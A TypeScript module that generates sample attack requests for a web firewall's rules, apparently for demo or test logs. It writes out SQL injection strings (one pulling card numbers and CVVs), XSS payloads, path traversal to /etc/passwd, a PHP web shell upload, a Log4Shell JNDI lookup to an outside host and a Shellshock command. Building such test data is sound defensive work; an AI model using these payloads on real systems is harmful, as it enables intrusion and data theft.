/** The service's rules, each with a generator of requests that trigger it. */
import type { Header } from '../service/model.ts';
import { type Attack, carry, get, page, post, uploadBody } from './attacks.ts';
import type { Random } from './random.ts';
import type { SampleDomain } from './sampleDomains.ts';

export interface SampleRule {
  /** `attack` in a list row. */
  readonly name: string;
  /** `attack_raw`. */
  readonly code: string;
  /** `basetype`. */
  readonly baseType: string;
  /** The rule's frequency relative to that of the other rules. */
  readonly weight: number;
  readonly attack: (random: Random, domain: SampleDomain) => Attack;
}

const number = (random: Random) => random.between(1, 9999);

function sqlInjection(random: Random, domain: SampleDomain): Attack {
  const n = number(random);
  const payload = random.pick([
    `' OR '${n}'='${n}' -- `,
    `${n} UNION SELECT username, password FROM users--`,
    `' AND SLEEP(${n % 10})#`,
    `-${n}' UNION ALL SELECT NULL,CONCAT(0x71,version(),0x71)-- -`,
    `admin'/*${n}*/`,
  ]);
  return carry(random, domain, random.pick(['id', 'q', 'category', 'order']), payload);
}

/** Creates a shop's checkout request with an SQL injection in its JSON body. */
function checkoutInjection(random: Random, domain: SampleDomain): Attack {
  const detected = `' UNION SELECT card_no, cvv FROM payments WHERE id=${number(random)}-- `;
  const text = JSON.stringify({
    cart: [
      {
        sku: `A-${number(random)}`,
        name: random.pick(domain.language.words),
        quantity: random.between(1, 4),
      },
      { sku: `B-${number(random)}`, name: random.pick(domain.language.words), quantity: 1 },
    ],
    coupon: `SUMMER${detected}`,
    customer: { email: `visitor${random.between(1, 999)}@mail.example`, newsletter: false },
  });
  const body = { type: 'application/json', text };
  return { ...post(random, domain, body, detected, 'JSON field coupon'), target: '/api/v2/checkout' };
}

function crossSiteScripting(random: Random, domain: SampleDomain): Attack {
  const n = number(random);
  const payload = random.pick([
    `<script>alert(${n})</script>`,
    `"><img src=x onerror=alert(${n})>`,
    `<svg/onload=alert(${n})>`,
    `{{constructor.constructor('alert(${n})')()}}`,
  ]);
  return carry(random, domain, random.pick(['q', 'comment', 'title', 'subject']), payload);
}

function directoryTraversal(random: Random, domain: SampleDomain): Attack {
  const step = random.pick(['../', '....//', '..%2f', '%2e%2e/']);
  const detected = step.repeat(random.between(3, 8)) + random.pick(['etc/passwd', 'windows/win.ini']);
  return random.chance(0.4)
    ? get(`/download/${detected}`, detected, 'path')
    : carry(random, domain, random.pick(['file', 'path']), detected);
}

/** Creates a request that uploads a script, followed by `times` × 16 bytes. */
function fileUpload(random: Random, domain: SampleDomain, times: number): Attack {
  const base = random.pick(['shell', 'cmd', 'avatar', random.pick(domain.language.words)]);
  const fileName = `${base}-${random.hex(4)}${random.pick(['.php', '.jsp', '.php.jpg'])}`;
  const boundary = `----SampleFormBoundary${random.hex(12)}`;
  const body = uploadBody(boundary, fileName, "<?php system($_GET['c']); ?>", times);
  return post(random, domain, body, fileName, 'file name of avatar');
}

function requestHeaderFiltering(random: Random, domain: SampleDomain): Attack {
  const n = number(random);
  const header: Header = random.pick<Header>([
    ['User-Agent', `\${jndi:ldap://198.51.100.7:1389/${n}}`],
    ['User-Agent', `() { :;}; /bin/bash -c "id; echo ${n}"`],
    ['X-Original-URL', `/admin/users/${n}`],
    ['Referer', `https://evil.example/?from=${n}&next=<script>`],
  ]);
  const [name, detected] = header;
  return { ...get(page(random, domain), detected, `header ${name}`), headers: [header] };
}

const rule = (
  name: string,
  code: string,
  baseType: string,
  weight: number,
  attack: SampleRule['attack'],
): SampleRule => ({ name, code, baseType, weight, attack });

const sql = rule('SQL Injection', 'SQL_INJECTION', '1', 8, sqlInjection);
/** The attack in the newest log of a shop. */
export const checkout: SampleRule = { ...sql, attack: checkoutInjection };

export const upload = rule('File Upload', 'FILE_UPLOAD', '3', 3, (random, domain) =>
  fileUpload(random, domain, random.between(1, 20)),
);
/** An upload of 5 MiB. */
export const largeUpload: SampleRule = {
  ...upload,
  attack: (random, domain) => fileUpload(random, domain, (5 * 1024 * 1024) / 16),
};

export const rules: readonly SampleRule[] = [
  sql,
  rule('Cross Site Scripting', 'XSS', '1', 7, crossSiteScripting),
  rule('Directory Traversal', 'DIR_TRAVERSAL', '1', 4, directoryTraversal),
  upload,
  rule('Request Header Filtering', 'HEADER_FILTER', '5', 3, requestHeaderFiltering),
];

const byWeight = rules.flatMap((rule) => Array.from({ length: rule.weight }, () => rule));

export function pickRule(random: Random): SampleRule {
  return random.pick(byWeight);
}
